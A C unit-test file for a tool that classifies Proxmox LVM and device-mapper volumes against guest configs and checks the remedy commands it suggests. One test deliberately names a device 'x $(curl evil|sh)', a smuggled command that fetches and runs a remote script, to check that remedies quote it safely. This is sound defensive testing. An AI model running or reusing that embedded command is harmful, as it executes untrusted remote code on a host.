// SPDX-License-Identifier: GPL-2.0
/*
 * Verdicts against Proxmox's own rules: the configs of tests/fixtures/pve/rules
 * (written after the syntax of qemu-server's and pve-container's test configs)
 * with every LV they could name active, on an lvmthin (pve/data) and a thick LVM
 * storage (vmdata, snapshot-as-volume-chain). Every referenced volume must be
 * valid, every other one a tombstone with the right reason; plus aliasing without
 * LVM data, a mapping whose name lies about its LV, and remedies a shell cannot
 * misread.
 */
#include <stdlib.h>
#include <sys/sysmacros.h>
#include "test.h"
#include "analyze/classify.h"
#include "collect/pve.h"
#include "lib/util.h"

#define RULES FIXTURES "/pve/rules"

/* dm's "vg-lv" name: '-' inside a part doubled */
static char *dm_name(const char *vg, const char *lv)
{
	char *out = xcalloc(2 * (strlen(vg) + strlen(lv)) + 2, 1), *o = out;

	for (const char *p = vg; *p; p++) {
		*o++ = *p;
		if (*p == '-')
			*o++ = '-';
	}
	*o++ = '-';
	for (const char *p = lv; *p; p++) {
		*o++ = *p;
		if (*p == '-')
			*o++ = '-';
	}
	return out;
}

/* an active LV: in LVM metadata and mapped by dm, on its own sectors of PV 7:0 */
static struct dm_dev *add_lv(struct state *st, const char *vg, const char *lv, bool thin)
{
	static const char *const vg_uuids[] = { "PVEVGPVEVGPVEVGPVEVGPVEVGPVEVGPV",
						"DATAVGDATAVGDATAVGDATAVGDATAVGDA" };
	const char *vgu = strcmp(vg, "pve") ? vg_uuids[1] : vg_uuids[0];
	struct lvm_lv *l = array_push(&st->lvs, &st->n_lvs, sizeof(*l));
	struct dm_dev *d = array_push(&st->devs, &st->n_devs, sizeof(*d));
	char lvu[33];

	snprintf(lvu, sizeof(lvu), "LV%030zu", st->n_lvs);
	l->vg_name = xstrdup(vg);
	l->lv_name = xstrdup(lv);
	l->vg_uuid = xstrdup(vgu);
	l->lv_uuid = xstrdup(lvu);
	l->attr = xstrdup(thin ? "Vwi-a-tz--" : "-wi-a-----");
	l->pool = xstrdup(thin ? "data" : "");
	l->origin = xstrdup("");
	l->thin_id = -1;
	d->name = dm_name(vg, lv);
	d->uuid = xasprintf("LVM-%s%s", vgu, lvu);
	d->major = 253;
	d->minor = st->n_devs;
	d->table = xcalloc(1, sizeof(*d->table));
	d->n_table = 1;
	d->table[0].length = 2048;
	d->table[0].type = xstrdup("linear");
	d->table[0].params = xasprintf("7:0 %zu", st->n_devs * 4096);
	d->deps = xcalloc(1, sizeof(*d->deps));
	d->deps[0] = makedev(7, 0);
	d->n_deps = 1;
	return d;
}

static const struct dev_finding *finding(const struct report *r, const char *vg, const char *lv)
{
	char *name = dm_name(vg, lv);
	const struct dev_finding *f = NULL;

	for (size_t i = 0; i < r->n_devs && !f; i++)
		if (!strcmp(r->devs[i].dev->name, name))
			f = &r->devs[i];
	free(name);
	return f;
}

struct expect {
	const char *vg, *lv;
	bool thin;
	enum dev_class cls;
	const char *reason;
	int vmid;		/* the guest it belongs to, -1 for none */
};

static const struct expect rules[] = {
	/* qemu drives, efidisk, tpmstate, the drive not first in its property string */
	{ "pve", "vm-8006-disk-0", true, CLASS_VALID, NULL, 8006 },
	{ "pve", "vm-8006-disk-1", true, CLASS_VALID, NULL, 8006 },
	{ "pve", "vm-8006-disk-2", true, CLASS_VALID, NULL, 8006 },
	/* [PENDING] */
	{ "pve", "vm-8006-disk-3", true, CLASS_VALID, NULL, 8006 },
	/* cdrom: is ide2; a cloud-init volume named after another vmid: the config decides */
	{ "pve", "vm-120-cloudinit", true, CLASS_VALID, NULL, 8006 },
	{ "vmdata", "vm-8006-cloudinit", false, CLASS_VALID, NULL, 8006 },
	/* unused0 with another vmid's name */
	{ "vmdata", "vm-120-disk-0", false, CLASS_VALID, NULL, 8006 },
	/* thick LVM volume chain: the image and one LV per snapshot section */
	{ "vmdata", "vm-8006-disk-0.qcow2", false, CLASS_VALID, NULL, 8006 },
	{ "vmdata", "snap_vm-8006-disk-0_snap1.qcow2", false, CLASS_VALID, NULL, 8006 },
	{ "vmdata", "snap_vm-8006-disk-0_snap2.qcow2", false, CLASS_VALID, NULL, 8006 },
	{ "vmdata", "snap_vm-8006-disk-0_snap3.qcow2", false, CLASS_VALID, NULL, 8006 },
	/* vmstate of a snapshot */
	{ "vmdata", "vm-8006-state-snap1", false, CLASS_VALID, NULL, 8006 },
	/* a chain snapshot no section names, an image no line names */
	{ "vmdata", "snap_vm-8006-disk-0_snap9.qcow2", false, CLASS_TOMBSTONE, "unreferenced", 8006 },
	{ "vmdata", "vm-8006-disk-9", false, CLASS_TOMBSTONE, "unreferenced", 8006 },
	/* fleecing images on both storage types */
	{ "pve", "vm-130-disk-0", true, CLASS_VALID, NULL, 130 },
	{ "pve", "vm-130-fleece-0", true, CLASS_VALID, NULL, 130 },
	{ "vmdata", "vm-130-fleece-1", false, CLASS_VALID, NULL, 130 },
	{ "pve", "vm-130-fleece-2", true, CLASS_TOMBSTONE, "unreferenced", 130 },
	/* thin snapshot and its vmstate */
	{ "pve", "vm-140-disk-0", true, CLASS_VALID, NULL, 140 },
	{ "pve", "snap_vm-140-disk-0_before", true, CLASS_VALID, NULL, 140 },
	{ "pve", "vm-140-state-before", true, CLASS_VALID, NULL, 140 },
	{ "pve", "snap_vm-140-disk-0_gone", true, CLASS_TOMBSTONE, "unreferenced", 140 },
	/* lvmthin takes base-N-* (templates), thick LVM does not */
	{ "pve", "base-150-disk-0", true, CLASS_VALID, NULL, 150 },
	{ "pve", "vm-151-disk-0", true, CLASS_VALID, NULL, 151 },
	{ "pve", "base-170-disk-0", true, CLASS_TOMBSTONE, "no-guest", 170 },
	{ "vmdata", "base-170-disk-0", false, CLASS_VALID, NULL, -1 },
	/* LXC rootfs, mpN (volume not first), unusedN, [pve:pending], snapshot */
	{ "pve", "vm-200-disk-0", true, CLASS_VALID, NULL, 200 },
	{ "vmdata", "vm-200-disk-1", false, CLASS_VALID, NULL, 200 },
	{ "pve", "vm-200-disk-2", true, CLASS_VALID, NULL, 200 },
	{ "pve", "vm-200-disk-3", true, CLASS_VALID, NULL, 200 },
	{ "pve", "snap_vm-200-disk-0_snapA", true, CLASS_VALID, NULL, 200 },
	{ "pve", "vm-200-disk-4", true, CLASS_TOMBSTONE, "unreferenced", 200 },
	/* nobody's, and somebody's on another node */
	{ "pve", "vm-999-disk-0", true, CLASS_TOMBSTONE, "no-guest", 999 },
	{ "vmdata", "vm-999-disk-0", false, CLASS_TOMBSTONE, "no-guest", 999 },
	{ "pve", "vm-300-disk-0", true, CLASS_TOMBSTONE, "other-node", 300 },
};

static void rules_state(struct state *st)
{
	memset(st, 0, sizeof(*st));
	st->have_dm = st->have_lvm = true;
	st->node = xstrdup("pve1");
	for (size_t i = 0; i < ARRAY_SIZE(rules); i++)
		add_lv(st, rules[i].vg, rules[i].lv, rules[i].thin);
}

TEST(pve_rules_every_key_family)
{
	struct classify_opts o;
	struct state st;
	struct report r;

	rules_state(&st);
	CHECK_INT(pve_collect_configs(&st, RULES, "pve1"), 0);
	CHECK(st.have_pve);
	/* "boot: ", "tags: ", [special:cloudinit], lxc.* keys: nothing to complain about */
	for (size_t i = 0; i < st.n_problems; i++)
		FAIL_AT("problem %s: %s", st.problems[i].source, st.problems[i].message);
	state_normalize(&st);
	classify_opts_default(&o);
	classify(&st, &o, &r);
	for (size_t i = 0; i < ARRAY_SIZE(rules); i++) {
		const struct expect *e = &rules[i];
		const struct dev_finding *f = finding(&r, e->vg, e->lv);

		if (!f) {
			FAIL_AT("%s/%s not classified", e->vg, e->lv);
			continue;
		}
		if (f->cls != e->cls || strcmp(f->reason ? f->reason : "-", e->reason ? e->reason : "-") ||
		    f->vmid != e->vmid)
			FAIL_AT("%s/%s: %s/%s vmid %d (%s), expected %s/%s vmid %d", e->vg, e->lv,
				class_str(f->cls), f->reason ? f->reason : "-", f->vmid, f->detail,
				class_str(e->cls), e->reason ? e->reason : "-", e->vmid);
	}
	CHECK_STR(finding(&r, "vmdata", "vm-120-disk-0")->storage, "lvm-store");
	CHECK(strstr(finding(&r, "vmdata", "vm-120-disk-0")->detail, "unused0"));
	CHECK(strstr(finding(&r, "pve", "vm-120-cloudinit")->detail, "ide2"));
	CHECK_STR(finding(&r, "pve", "vm-130-fleece-2")->remedy, "qm disk rescan --vmid 130");
	CHECK_STR(finding(&r, "pve", "vm-200-disk-4")->remedy, "pct rescan --vmid 200");
	/* rescan does not bring snapshots back: deactivate */
	CHECK_STR(finding(&r, "vmdata", "snap_vm-8006-disk-0_snap9.qcow2")->remedy,
		  "lvchange -an vmdata/snap_vm-8006-disk-0_snap9.qcow2");
	CHECK_STR(finding(&r, "pve", "vm-999-disk-0")->remedy, "lvchange -an pve/vm-999-disk-0");
	report_free(&r);
	state_free(&st);
}

/* A config that could not be fully read may be the one that lists a volume */
TEST(pve_rules_broken_config_judges_nothing_unreferenced)
{
	struct classify_opts o;
	struct pve_guest *g;
	struct state st;
	struct report r;

	rules_state(&st);
	pve_collect_configs(&st, RULES, "pve1");
	g = array_push(&st.guests, &st.n_guests, sizeof(*g));
	g->vmid = 4242;
	g->node = xstrdup("pve1");
	pve_parse_guest_config(&st, "4242.conf", "name: x\nscsi0 local-lvm:vm-999-disk-0\n", g);
	CHECK(g->config_error);
	state_normalize(&st);
	classify_opts_default(&o);
	classify(&st, &o, &r);
	CHECK_INT(finding(&r, "pve", "vm-999-disk-0")->cls, CLASS_VALID);
	CHECK(strstr(finding(&r, "pve", "vm-999-disk-0")->detail, "not judged"));
	CHECK_INT(finding(&r, "vmdata", "vm-8006-disk-9")->cls, CLASS_VALID);
	/* references still decide */
	CHECK_INT(finding(&r, "vmdata", "vm-120-disk-0")->cls, CLASS_VALID);
	CHECK_INT(finding(&r, "pve", "vm-300-disk-0")->cls, CLASS_TOMBSTONE);
	report_free(&r);
	state_free(&st);
}

/* Two mappings of one extent: which is the copy only LVM can say */
TEST(aliasing_needs_lvm_to_name_a_side)
{
	struct classify_opts o;
	struct state st = {};
	struct report r;
	struct dm_dev *real, *copy;

	st.have_dm = st.have_lvm = true;
	real = add_lv(&st, "pve", "vm-101-disk-0", false);
	copy = array_push(&st.devs, &st.n_devs, sizeof(*copy));
	real = &st.devs[0];
	copy->name = xstrdup("x $(curl evil|sh)");
	copy->uuid = xstrdup("");
	copy->major = 253;
	copy->minor = 50;
	copy->table = xcalloc(1, sizeof(*copy->table));
	copy->n_table = 1;
	copy->table[0].length = 2048;
	copy->table[0].type = xstrdup("linear");
	copy->table[0].params = xstrdup(real->table[0].params);
	classify_opts_default(&o);

	classify(&st, &o, &r);
	CHECK_INT(r.devs[0].cls, CLASS_VALID);
	CHECK_INT(r.devs[1].cls, CLASS_DUPLICATE);
	CHECK_NULL(r.devs[1].reason);
	/* a name a shell would run, quoted into one argument */
	CHECK_STR(r.devs[1].remedy, "dmsetup remove 'x $(curl evil|sh)'");
	report_free(&r);

	/* stored unmangled: dmsetup in its default mode would not find it by that name */
	st.devs[1].name_unmangled = true;
	classify(&st, &o, &r);
	CHECK_STR(r.devs[1].remedy, "dmsetup --manglename none remove 'x $(curl evil|sh)'");
	report_free(&r);
	st.devs[1].name_unmangled = false;

	st.have_lvm = false;
	classify(&st, &o, &r);
	for (size_t i = 0; i < 2; i++) {
		CHECK_INT(r.devs[i].cls, CLASS_DUPLICATE);
		CHECK_STR(r.devs[i].reason, "unresolved");
		CHECK_NULL(r.devs[i].remedy);
		CHECK(strstr(r.devs[i].detail, "LVM could not be read"));
	}
	report_free(&r);
	state_free(&st);
}

/* A mapping named vm-999-disk-0 whose uuid is pve/vm-103-disk-0's is that LV */
TEST(lv_by_uuid_not_by_dm_name)
{
	struct classify_opts o;
	struct state st = {};
	struct report r;
	struct dm_dev *d;

	st.have_dm = st.have_lvm = true;
	d = add_lv(&st, "pve", "vm-103-disk-0", false);
	free(d->name);
	d->name = xstrdup("pve-vm--999--disk--0");
	classify_opts_default(&o);
	classify(&st, &o, &r);
	CHECK_STR(r.devs[0].vg, "pve");
	CHECK_STR(r.devs[0].lv, "vm-103-disk-0");
	CHECK(r.devs[0].renamed);
	CHECK_INT(r.devs[0].vmid, 103);
	report_free(&r);
	state_free(&st);
}

/* The sweep: every device of a pile that maps one extent is found, at bounded cost */
TEST(aliasing_pile_is_linear_enough)
{
	enum { N = 20000 };
	struct classify_opts o;
	struct state st = {};
	struct report r;

	st.have_dm = true;
	st.devs = xcalloc(N, sizeof(*st.devs));
	st.n_devs = N;
	for (size_t i = 0; i < N; i++) {
		struct dm_dev *d = &st.devs[i];

		d->name = xasprintf("pile%zu", i);
		d->uuid = xstrdup("");
		d->major = 253;
		d->minor = i;
		d->table = xcalloc(1, sizeof(*d->table));
		d->n_table = 1;
		d->table[0].length = 2048 + i % 7;
		d->table[0].type = xstrdup("linear");
		d->table[0].params = xasprintf("7:0 %zu", i % 3);
	}
	classify_opts_default(&o);
	classify(&st, &o, &r);
	for (size_t i = 0; i < N; i++) {
		if (r.devs[i].cls != CLASS_DUPLICATE || !r.devs[i].n_dup_of || r.devs[i].n_dup_of > 8) {
			FAIL_AT("pile%zu: %s with %zu partners", i, class_str(r.devs[i].cls),
				r.devs[i].n_dup_of);
			break;
		}
	}
	report_free(&r);
	state_free(&st);
}
